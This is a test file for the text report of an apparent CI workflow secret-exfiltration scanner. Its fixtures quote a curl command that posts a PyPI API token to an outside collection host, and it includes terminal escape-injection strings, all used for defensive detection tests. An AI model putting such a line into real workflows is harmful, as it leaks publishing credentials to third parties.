import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { formatText } from '../../src/report/text.js';
import {
  deploy,
  finding,
  ghostAction,
  input,
  scan,
  suppressedIp,
  trustedPublishing,
  WORKFLOW_PATH,
} from './findings.js';

const ESC = '\u001b';

describe('formatText', () => {
  const plain = formatText(input(), { color: false });
  const lines = plain.split('\n');

  it('groups by file, job and step in reading order', () => {
    const headings = lines.filter((l) => /^\S|^ {2}job |^ {4}step /.test(l));
    assert.deepEqual(headings, [
      WORKFLOW_PATH,
      '  job publish',
      '    step 4 "Upload"',
      '    step 5 "Run"',
      '    step 6 "Mirror"',
      '    step 7 "Backup"',
      '    step 8 "Deploy"',
      '    step 9 "Notify"',
      '    step 10 "Legacy"',
      '3 errors, 2 warnings, 1 note, 1 suppressed in 1 file scanned: fails at --fail-on error.',
    ]);
  });

  it('shows the offending line with a caret under the finding’s columns, its evidence and fix', () => {
    const at = lines.findIndex((l) => l.includes('30:11  error  PYPI_API_TOKEN is sent to bold-dhawan'));
    assert.ok(at >= 0, plain);
    assert.match(lines[at] ?? '', /exfil-guard\/secret-to-exfil-service$/);
    const source = lines[at + 1] ?? '';
    const caret = lines[at + 2] ?? '';
    assert.equal(
      source,
      '          30 │           curl -s -d "token=$T" https://bold-dhawan.45-139-104-115.plesk.page/collect',
    );
    const code = source.indexOf('│') + 2;
    assert.equal(caret.indexOf('^'), code + 10, 'caret under column 11');
    assert.equal(caret.split('').filter((c) => c === '^').length, 75);
    assert.equal(
      lines[at + 3],
      '          evidence: secrets.PYPI_API_TOKEN → env T (job env, line 13) → curl -d (line 30) → bold-dhawan.45-139-104-115.plesk.page',
    );
    assert.equal(
      lines[at + 4],
      '          fix: Remove the step; rotate PYPI_API_TOKEN and move to Trusted Publishing.',
    );
  });

  it('shows suppressed findings as such, with the reason and no fix', () => {
    const at = lines.findIndex((l) => l.includes('suppressed  PYPI_API_TOKEN is sent to 45.139.104.115'));
    assert.ok(at >= 0);
    assert.ok(
      lines
        .slice(at, at + 5)
        .includes('          suppressed by comment: decommissioned host, removed in #412'),
    );
    assert.ok(!lines.slice(at, at + 6).some((l) => l.includes('fix:')));
  });

  it('uses colour only when asked', () => {
    assert.ok(!plain.includes(ESC));
    const coloured = formatText(input(), { color: true });
    assert.ok(coloured.includes(`${ESC}[31merror${ESC}[0m`));
    assert.ok(coloured.includes(`${ESC}[33mwarning${ESC}[0m`));
    assert.ok(coloured.includes(`${ESC}[36mnote${ESC}[0m`));
    assert.equal(coloured.replaceAll(new RegExp(`${ESC}\\[\\d+m`, 'g'), ''), plain);
  });

  it('neutralises terminal escape sequences from the workflow', () => {
    const evil = finding({
      rule: 'secret-to-unlisted-host',
      message: `X is sent ${ESC}]0;pwned\u0007 ${ESC}[2J`,
      stepName: `clear${ESC}[2J`,
      job: `j${ESC}[31m`,
      location: { file: 'w.yml', line: 1, column: 1 },
    });
    const text = formatText(
      { result: scan([evil]), failOn: 'error', sources: new Map([['w.yml', `run: echo ${ESC}[2J`]]) },
      { color: false },
    );
    assert.ok(!text.includes(ESC), JSON.stringify(text));
    assert.ok(!text.includes('\u0007'));
    assert.ok(text.includes('\\x1b[2J'));
  });

  it('reads source lines through readLine when no source text was given', () => {
    const asked: [string, number][] = [];
    const text = formatText(
      { result: scan([deploy]), failOn: 'error' },
      {
        color: false,
        readLine: (file, line) => {
          asked.push([file, line]);
          return '\tcurl -u x https://deploy.example.net';
        },
      },
    );
    assert.deepEqual(asked, [[WORKFLOW_PATH, 44]]);
    // A tab before the column stays a tab under it, so the caret lines up in the terminal.
    const caret = text.split('\n').find((l) => l.includes('^')) ?? '';
    assert.match(caret, /│ \t {9}\^/);
  });

  it('shows a window of a very long line, with the caret still under the column', () => {
    const long = `${'a'.repeat(500)}TARGET${'b'.repeat(500)}`;
    const f = finding({
      rule: 'r',
      location: { file: 'w.yml', line: 1, column: 501, endLine: 1, endColumn: 506 },
    });
    const text = formatText(
      { result: scan([f]), failOn: 'error', sources: new Map([['w.yml', long]]) },
      { color: false },
    );
    const [source = '', caret = ''] = text.split('\n').filter((l) => l.includes(' │ '));
    assert.ok(source.length < 200);
    assert.ok(source.includes('…'));
    assert.equal(source.slice(caret.indexOf('^'), caret.indexOf('^') + 6), 'TARGET');
    assert.equal(caret.trim().endsWith('^^^^^^'), true);
  });

  it('lists unreadable files first and ends with a passing summary line when nothing fails', () => {
    const text = formatText(
      {
        result: scan(
          [trustedPublishing],
          [
            { path: 'bad.yml', error: 'bad.yml:4: tab character in indentation' },
            { path: WORKFLOW_PATH, error: null },
          ],
        ),
        failOn: 'error',
      },
      { color: false },
    );
    assert.ok(
      text.startsWith('Files that could not be analysed\n  error  bad.yml:4: tab character in indentation\n'),
    );
    assert.ok(
      text.endsWith(
        '0 errors, 0 warnings, 1 note in 2 files scanned (1 could not be analysed): passes at --fail-on error.\n',
      ),
    );
  });

  it('shows job-level findings under the job, without a step heading', () => {
    const jobLevel = { ...ghostAction, step: null, stepName: null };
    const text = formatText({ result: scan([jobLevel, suppressedIp]), failOn: 'never' }, { color: false });
    assert.match(text, /\n {2}job publish\n {4}30:11 {2}error/);
  });

  it('shows absolute paths below cwd relative to it', () => {
    const f = { ...deploy, location: { ...deploy.location, file: '/work/repo/.github/workflows/ci.yml' } };
    const other = {
      ...deploy,
      fingerprint: 'o',
      location: { ...deploy.location, file: '/elsewhere/ci.yml' },
    };
    const text = formatText(
      { result: scan([f, other]), failOn: 'error' },
      { color: false, cwd: '/work/repo' },
    );
    assert.match(text, /^\/elsewhere\/ci\.yml$/m);
    assert.match(text, /^\.github\/workflows\/ci\.yml$/m);
  });
});
